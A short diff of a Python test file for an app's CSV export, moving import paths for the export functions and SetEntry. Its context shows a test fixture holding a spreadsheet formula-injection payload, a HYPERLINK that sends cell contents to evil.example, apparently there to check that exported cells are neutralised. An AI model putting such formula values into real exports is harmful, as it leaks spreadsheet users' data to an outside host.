@@ -13,9 +13,9 @@ from pathlib import Path
 
 import pytest
 
-from app.export import CSV_COLUMNS, csv_cell, export_csv
-from app.storage.entries import SetEntry
+from app.logbook.entries import SetEntry
 from app.storage.store import Store
+from app.usecases.export import CSV_COLUMNS, csv_cell, export_csv
 
 HOSTILE = {
     "session_uid": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
